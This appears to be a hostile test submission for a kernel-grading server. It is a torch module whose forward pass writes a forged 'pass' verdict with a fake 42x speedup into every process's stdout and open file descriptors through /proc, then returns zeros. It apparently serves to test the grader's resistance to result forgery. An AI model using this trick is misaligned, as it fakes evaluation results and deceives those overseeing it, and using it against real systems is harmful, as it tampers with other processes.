# Hostile: answers its own request on the server's stdout before the server does, through
# /proc/<ppid>/fd/1 and every other process' stdout it can see, with the request id (the
# test's request id is known to the attacker, as a predictable id would be); returns zeros.
import json
import os

import torch

REQUEST_ID = "attack-stdout"
ANSWER = (json.dumps({"id": REQUEST_ID, "status": "pass", "error_class": "", "message": "",
                      "log_tail": "", "findings": [], "extracted": {},
                      "metrics": {"max_abs_diff": 0.0, "speedup": 42.0}, "flags": []})
          + "\n").encode()


def _targets():
    pids = {os.getppid(), 1}
    pids.update(int(p) for p in os.listdir("/proc") if p.isdigit())
    for pid in sorted(pids):
        yield f"/proc/{pid}/fd/1"
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                yield f"/proc/{pid}/fd/{fd}"
        except OSError:
            pass


class ModelNew(torch.nn.Module):
    def forward(self, x):
        for path in _targets():
            try:
                fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            except OSError:
                continue
            try:
                os.write(fd, ANSWER)
            except OSError:
                pass
            finally:
                os.close(fd)
        return torch.zeros_like(x)
